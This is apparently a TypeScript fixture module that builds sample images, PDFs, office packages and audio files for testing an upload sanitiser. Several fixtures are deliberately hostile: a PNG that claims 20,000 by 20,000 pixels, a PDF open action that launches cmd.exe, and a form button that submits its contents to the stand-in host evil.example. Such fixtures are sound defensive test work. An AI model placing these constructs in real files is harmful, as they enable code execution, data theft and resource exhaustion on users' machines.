import { PDFDocument, PDFName, PDFNumber, PDFString } from '@cantoo/pdf-lib';
import { Document, Packer, Paragraph } from 'docx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import sharp from 'sharp';

type Bytes = Uint8Array;

/** A picture with more than its pixels: place, camera, a turned-round sensor. */
export async function photo(width = 60, height = 40): Promise<Bytes> {
  const image = sharp({ create: { width, height, channels: 3, background: '#a04020' } });
  return image
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Model: 'May anh bi mat' },
      IFD3: { GPSLatitude: '21/1 2/1 3/1', GPSLatitudeRef: 'N' },
    })
    .toBuffer();
}

export function picture(kind: 'png' | 'webp' | 'avif', side = 30): Promise<Bytes> {
  const image = sharp({ create: { width: side, height: side, channels: 3, background: '#246' } });
  return image.toFormat(kind).toBuffer();
}

/** A PNG of a few bytes that claims 20,000 by 20,000 pixels. */
export async function pixelBomb(): Promise<Bytes> {
  const bytes = new Uint8Array(await picture('png'));
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  view.setUint32(16, 20_000);
  view.setUint32(20, 20_000);
  view.setUint32(29, crc32(bytes.subarray(12, 29)));
  return bytes;
}

/** A page of PDF, after `change` has put into it what it should not hold. */
export async function pdf(
  change: (document: PDFDocument) => void | Promise<void> = () => undefined,
  useObjectStreams = true,
): Promise<Bytes> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]).drawText('Cong van');
  await change(document);
  return document.save({ useObjectStreams });
}

/** An action hung on the opening of a document. */
export const opening = (action: Record<string, unknown>) => (document: PDFDocument) => {
  const { context, catalog } = document;
  catalog.set(PDFName.of('OpenAction'), context.register(context.obj(action as never)));
};

/** An action whose kind stands in an object of its own. */
export function roundabout(document: PDFDocument): void {
  const { context, catalog } = document;
  const kind = context.register(PDFName.of('Launch'));
  catalog.set(PDFName.of('OpenAction'), context.obj({ S: kind, F: PDFString.of('cmd.exe') }));
}

/** A button that sends what was filled in to somebody else. */
export function sendingForm(document: PDFDocument): void {
  const { context } = document;
  const action = { S: 'SubmitForm', F: PDFString.of('https://evil.example'), Flags: 4 };
  const widget = { Type: 'Annot', Subtype: 'Widget', FT: 'Btn', A: action, Rect: [0, 0, 9, 9] };
  const [page] = document.getPages();
  page?.node.set(
    PDFName.of('Annots'),
    context.obj([context.register(context.obj(widget as never))]),
  );
  document.catalog.set(PDFName.of('Ok'), PDFNumber.of(1));
}

export async function docx(): Promise<Bytes> {
  const document = new Document({ sections: [{ children: [new Paragraph('Mẫu đơn')] }] });
  return new Uint8Array(await Packer.toBuffer(document));
}

/** The package with parts put in, replaced, or edited. */
export function repacked(
  bytes: Bytes,
  parts: Record<string, string | ((text: string) => string)>,
): Bytes {
  const files = unzipSync(bytes);
  for (const [name, part] of Object.entries(parts)) {
    const before = files[name] ? new TextDecoder().decode(files[name]) : '';
    files[name] = strToU8(typeof part === 'string' ? part : part(before));
  }
  return zipSync(files);
}

export function xlsx(): Bytes {
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/></Types>`,
    ),
    'xl/workbook.xml': strToU8('<workbook/>'),
    'xl/printerSettings/printerSettings1.bin': strToU8('A4'),
  });
}

export function odt(content = '<office:document-content/>'): Bytes {
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8(`<?xml version="1.0" encoding="UTF-8"?>${content}`),
  });
}

export function mp3(behind = ''): Bytes {
  const frame = new Uint8Array(417);
  frame.set([0xff, 0xfb, 0x90, 0x64]);
  return join(frame, frame, frame, strToU8(behind));
}

export function m4a(handler = 'soun'): Bytes {
  const brand = box('ftyp', join(strToU8('M4A \0\0\0\0isom')));
  return join(brand, box('hdlr', strToU8(`\0\0\0\0\0\0\0\0${handler}`)));
}

export function ogg(): Bytes {
  const head = new Uint8Array(28);
  head.set(strToU8('OggS'));
  head[26] = 1;
  return join(head, strToU8('\x01vorbis'), new Uint8Array(60));
}

export function wav(): Bytes {
  return join(strToU8('RIFF\x24\0\0\0WAVEfmt '), new Uint8Array(28));
}

export function join(...parts: readonly Bytes[]): Bytes {
  return new Uint8Array(Buffer.concat(parts));
}

function box(name: string, content: Bytes): Bytes {
  const size = new Uint8Array(4);
  new DataView(size.buffer).setUint32(0, content.length + 8);
  return join(size, strToU8(name), content);
}

function crc32(bytes: Bytes): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}
